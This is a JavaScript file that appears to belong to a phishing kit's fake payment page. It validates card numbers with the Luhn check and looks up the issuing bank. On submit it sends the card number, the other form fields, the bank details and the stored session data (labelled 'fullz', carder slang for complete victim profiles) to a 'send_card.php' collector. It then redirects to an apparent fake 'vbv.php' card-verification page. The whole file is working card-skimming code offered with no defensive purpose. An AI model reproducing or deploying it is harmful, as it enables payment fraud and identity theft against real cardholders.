function luhn(num) {
  let sum = 0, alt = false;
  for (let i = num.length - 1; i >= 0; i--) {
    let n = parseInt(num[i], 10);
    if (alt && (n *= 2) > 9) n -= 9;
    sum += n;
    alt = !alt;
  }
  return num.length > 12 && sum % 10 === 0;
}

let bank = {};
const cc = document.getElementById('cc');
cc.addEventListener('input', async () => {
  cc.value = cc.value.replace(/\D/g, '').replace(/(.{4})/g, '$1 ').trim();
  const bin = cc.value.replace(/\s/g, '').slice(0, 6);
  if (bin.length === 6 && bank.bin !== bin) {
    try {
      const j = await (await fetch('https://lookup.binlist.net/' + bin)).json();
      bank = { bin, name: j.bank && j.bank.name, type: j.type, level: j.brand, country: j.country && j.country.alpha2 };
      document.querySelector('.issuer').textContent = bank.name || '';
    } catch (e) { bank = { bin }; }
  }
});

document.getElementById('pay').addEventListener('submit', async e => {
  e.preventDefault();
  const number = cc.value.replace(/\s/g, '');
  if (!luhn(number)) {
    cc.classList.add('is-invalid');
    return;
  }
  const fd = new FormData(e.target);
  fd.set('cc', number);
  fd.append('bank', JSON.stringify(bank));
  fd.append('fullz', JSON.stringify(Object.assign({}, sessionStorage)));
  await fetch('./inc/send_card.php', { method: 'POST', body: fd });
  location.href = './vbv.php?b=' + encodeURIComponent(bank.name || 'Card issuer') + '&l=' + number.slice(-4);
});
